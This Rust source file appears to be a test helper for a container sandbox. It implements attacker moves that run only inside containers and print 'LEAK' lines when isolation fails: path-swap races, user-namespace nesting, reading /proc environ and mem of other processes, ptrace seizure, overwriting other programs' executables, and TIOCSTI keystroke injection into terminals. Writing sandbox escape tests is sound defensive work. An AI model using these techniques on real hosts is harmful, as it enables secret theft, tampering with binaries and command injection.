//! Commands of an attacker: what a hostile program in a container would try. They tell what worked, a line each that
//! begins with `LEAK`, and run only in containers.
#![expect(unsafe_code, reason = "raw system calls are what is tried")]

use std::{
    fs,
    io::{self, Write},
    os::fd::{AsRawFd, OwnedFd},
    path::Path,
};

use rustix::fs::{CWD, Mode, OFlags, RenameFlags, openat, renameat_with};

use crate::{Outcome, because, probe::contained};

pub(crate) fn command(name: &str, arguments: &[&str]) -> Option<Outcome> {
    let attack: &dyn Fn() -> Outcome = match (name, arguments) {
        ("swap", [rounds, pairs @ ..]) => &|| swap(rounds, pairs),
        ("nest", []) => &nest,
        ("spy", []) => &spy,
        ("overwrite", [size]) => &|| overwrite(size),
        ("type-into-terminals", [text]) => &|| type_into_terminals(text),
        _ => return None,
    };
    Some(contained().and_then(|()| attack()))
}

fn say(text: &str) -> Outcome {
    println!("{text}");
    io::stdout().flush().map_err(because)
}

/// Exchanges the two paths of each pair as fast as it can, so many times.
fn swap(rounds: &str, pairs: &[&str]) -> Outcome {
    let rounds: u64 = rounds.parse().map_err(|_| format!("{rounds:?} is not a number"))?;
    say("swapping")?;
    for _ in 0..rounds {
        for pair in pairs.chunks_exact(2) {
            // Another container may have made one of them a busy place for a moment.
            let _ = renameat_with(CWD, pair[0], CWD, pair[1], RenameFlags::EXCHANGE);
        }
    }
    Ok(())
}

/// Leaves for a user namespace of its own making, and stays there.
fn nest() -> Outcome {
    crate::probe::user_namespace(rustix::thread::UnshareFlags::NEWUSER)?;
    say("nested")?;
    loop {
        std::thread::park();
    }
}

/// What /proc shows of a process and only who may trace it can open.
const PRIVATE: &[(&str, OFlags)] = &[
    ("root", OFlags::PATH),
    ("cwd", OFlags::PATH),
    ("fd/0", OFlags::PATH),
    ("fd/3", OFlags::PATH),
    ("environ", OFlags::RDONLY),
    ("maps", OFlags::RDONLY),
    ("mem", OFlags::RDWR),
    ("ns/mnt", OFlags::RDONLY),
];

/// Looks for processes whose program is not the container's, tells of each that it has met, and tries to get into it; for ever.
fn spy() -> Outcome {
    let mut spy = Spy { met: Vec::new(), leaks: Vec::new() };
    say("spying")?;
    loop {
        for pid in processes() {
            spy.look_at(pid)?;
        }
        // A process that was attached to, and has ended, is held until its tracer has waited for it.
        // SAFETY: a null pointer asks for no status.
        while unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::WNOHANG | libc::__WALL) } > 0 {}
    }
}

struct Spy {
    met: Vec<(i32, String)>,
    /// What was told already.
    leaks: Vec<String>,
}

impl Spy {
    fn look_at(&mut self, pid: i32) -> Outcome {
        let read = |name: &str| fs::read_to_string(format!("/proc/{pid}/{name}")).unwrap_or_default();
        let name = read("comm").trim_end().to_owned();
        match exe(pid) {
            Exe::Containers | Exe::Gone => return Ok(()),
            Exe::Other => self.leak(&name, "its program")?,
            Exe::Hidden => {}
        }
        if read("cmdline").contains("SECRET") {
            self.leak(&name, "its command line")?;
        }
        for (file, flags) in PRIVATE {
            let opened = openat(CWD, format!("/proc/{pid}/{file}"), *flags, Mode::empty());
            if opened.is_ok() && is_still_hidden(pid) {
                self.leak(&name, file)?;
            }
        }
        // SAFETY: PTRACE_SEIZE takes numbers.
        if unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0 && is_still_hidden(pid) {
            self.leak(&name, "the right to trace it")?;
        }
        if self.met.contains(&(pid, name.clone())) {
            return Ok(());
        }
        say(&format!("met {name}"))?;
        self.met.push((pid, name));
        Ok(())
    }

    fn leak(&mut self, name: &str, what: &str) -> Outcome {
        let line = format!("LEAK {name}: {what}");
        if self.leaks.contains(&line) {
            return Ok(());
        }
        say(&line)?;
        self.leaks.push(line);
        Ok(())
    }
}

fn processes() -> Vec<i32> {
    let own = std::process::id().cast_signed();
    let entries = fs::read_dir("/proc").into_iter().flatten().filter_map(Result::ok);
    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    pids.filter(|pid| *pid != own).collect()
}

/// What is known of a process's program: that it is the container's (this one, or the stub that executes it, which has
/// nothing that the program will not have), another, or that one may not know.
enum Exe {
    Containers,
    Other,
    Hidden,
    Gone,
}

fn exe(pid: i32) -> Exe {
    match fs::read_link(format!("/proc/{pid}/exe")) {
        Ok(path) if path == Path::new("/bin/payload") => Exe::Containers,
        Ok(path) if path == Path::new("/memfd:coracle-exec (deleted)") => Exe::Containers,
        Ok(_) => Exe::Other,
        Err(error) if error.raw_os_error() == Some(libc::EACCES) => Exe::Hidden,
        Err(_) => Exe::Gone,
    }
}

/// What was opened was not the container's, whose program the process may have turned into meanwhile.
fn is_still_hidden(pid: i32) -> bool {
    matches!(exe(pid), Exe::Hidden | Exe::Other)
}

/// Keeps hold of every process's program that has this size, and writes into it as soon as nobody runs it; for ever.
fn overwrite(size: &str) -> Outcome {
    let size: u64 = size.parse().map_err(|_| format!("{size:?} is not a size"))?;
    let mut held: Vec<OwnedFd> = Vec::new();
    say("overwriting")?;
    loop {
        for pid in processes() {
            let Ok(file) = fs::File::open(format!("/proc/{pid}/exe")) else { continue };
            if file.metadata().is_ok_and(|meta| meta.len() == size) && held.len() < 100 {
                say("LEAK the file can be opened")?;
                held.push(file.into());
            }
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let opened = fs::OpenOptions::new().write(true).open(path);
            if opened.is_ok_and(|mut file| file.write_all(b"pwned").is_ok()) {
                say("LEAK the file was written")?;
            }
        }
    }
}

/// Pushes text into the input of every terminal in reach, as if it was typed there. ioctl_tty(2), TIOCSTI.
fn type_into_terminals(text: &str) -> Outcome {
    let mut places = vec!["/dev/tty".to_owned(), "/dev/console".to_owned()];
    for pid in processes().into_iter().chain([std::process::id().cast_signed()]) {
        for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().filter_map(Result::ok) {
            places.push(entry.path().display().to_string());
        }
    }
    for number in 0..3 {
        push(number, text, &format!("descriptor {number}"))?;
    }
    for place in places {
        let flags = OFlags::RDWR | OFlags::NOCTTY | OFlags::NONBLOCK;
        if let Ok(file) = openat(CWD, &place, flags, Mode::empty()) {
            push(file.as_raw_fd(), text, &place)?;
        }
    }
    say("typed")
}

fn push(number: i32, text: &str, place: &str) -> Outcome {
    for letter in text.bytes().chain([b'\n']) {
        // SAFETY: the pointer is to a local byte, which the call reads.
        if unsafe { libc::ioctl(number, libc::TIOCSTI, &raw const letter) } != 0 {
            return Ok(());
        }
    }
    say(&format!("LEAK typed into {place}"))
}
